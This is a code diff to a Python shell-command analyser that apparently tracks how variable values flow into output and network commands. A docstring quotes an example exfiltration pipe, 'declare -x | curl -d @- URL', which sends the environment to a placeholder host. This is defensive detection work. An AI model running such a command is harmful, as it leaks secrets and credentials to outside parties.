@@ -756,10 +756,17 @@ class Walker(WordsMixin, RunnersMixin, FanOutMixin):
         assigns nothing prints variables, so it is a command whose output a pipe carries
         (``declare -x | curl -d @- URL`` sends the environment)."""
         words = [node_text(c) for c in node.named_children]
-        if any(c.type != "word" for c in node.named_children) or any(w[:1] != "-" for w in words):
-            return None
+        names = [w for w in words if w[:1] != "-"]
+        if any(c.type not in ("word", "variable_name") for c in node.named_children) or (
+            names and ("-p" not in words or not all(n.isidentifier() for n in names))
+        ):
+            return None  # declare -p NAME prints NAME's value (red-team rt93)
         keyword = node_text(node.children[0]) if node.children else ""
+        self._vars_used = []
+        for n in names:
+            self._use(n)
         cmd = Cmd([keyword, *words], node_text(node), self.state.cwd, via=via)
+        cmd.vars_used = list(self._vars_used)
         self.cmds.append(cmd)
         return cmd
 
@@ -785,8 +792,9 @@ class Walker(WordsMixin, RunnersMixin, FanOutMixin):
             self.captured_vars.add(name)  # Y=$X, a=($X): a copy of a captured value
         if value_node is not None and value_node.type == "array":
             return name, self._array(name, value_node, depth)
-        before = len(self.cmds)
+        before, mark = len(self.cmds), len(self._vars_used)
         value = "".join(self.expand(value_node, depth, split=False)) if value_node else ""
+        self.origins[name] = set(self._vars_used[mark:]) - {name}
         if self._capture(before):
             self.captured_vars.add(name)
         return name, value
